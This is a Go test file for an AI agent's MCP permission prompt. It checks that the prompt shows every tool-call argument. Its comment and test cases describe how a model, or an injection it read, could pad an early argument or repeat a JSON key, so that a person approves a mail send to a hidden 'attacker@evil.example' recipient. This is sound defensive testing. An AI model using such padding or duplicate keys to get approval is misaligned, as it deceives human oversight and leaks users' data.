package agent

import (
	"context"
	"encoding/json"
	"os"
	"strings"
	"testing"

	"github.com/agentls/agentls/agent/tools"
	"github.com/agentls/agentls/agentproto"
)

// TestMCPPermissionShowsEveryArgument: docs/mcp.md promises the MCP
// permission question shows the call's arguments. mcpCallPermission cuts
// them at maxShownArgs bytes with no document holding the rest, while
// mcpclient's Tool.Run sends the server every argument (the JSON parsed
// whole, a repeated key's last value winning). A model (or an injection it
// read) that pads an early argument past 4000 bytes gets the person to
// allow a call whose later arguments — the recipient of a message, a
// repeated key overriding the one shown — they never saw.
func TestMCPPermissionShowsEveryArgument(t *testing.T) {
	pad := strings.Repeat("Quarterly figures attached, nothing unusual. ", 100) // > maxShownArgs
	cases := []struct {
		name, args, hidden string
	}{
		{"a later argument", `{"body":` + auditJSONString(pad) + `,"to":"attacker@evil.example"}`, "attacker@evil.example"},
		{"a repeated key's winning value", `{"to":"boss@corp.example","body":` + auditJSONString(pad) + `,"to":"attacker@evil.example"}`, "attacker@evil.example"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var sent map[string]any
			if err := json.Unmarshal([]byte(c.args), &sent); err != nil {
				t.Fatal(err)
			}
			if sent["to"] != c.hidden {
				t.Fatalf("rig: the server would get to=%v", sent["to"])
			}
			req := mcpCallPermission(context.Background(), "s1", tools.MCPCallRequest{
				Tool: "mcp__mail__send", Server: "mail", ServerTool: "send", Command: "mail-mcp",
				Args: json.RawMessage(c.args),
			}, "no", "on")
			if req.Kind != agentproto.PermissionMCP {
				t.Fatalf("rig: kind %q", req.Kind)
			}
			e := req.Escaped()
			shown := e.What + "\n" + e.Note
			if e.Document != "" {
				if doc, err := os.ReadFile(e.Document); err == nil {
					shown += "\n" + string(doc)
				}
			}
			if !strings.Contains(shown, c.hidden) {
				t.Errorf("the question allows a call that sends to=%q but never shows it (%d bytes of arguments, question note ends %q)",
					c.hidden, len(c.args), auditTail(e.Note, 120))
			}
		})
	}
}

func auditJSONString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func auditTail(s string, n int) string {
	if len(s) <= n {
		return s
	}
	return s[len(s)-n:]
}
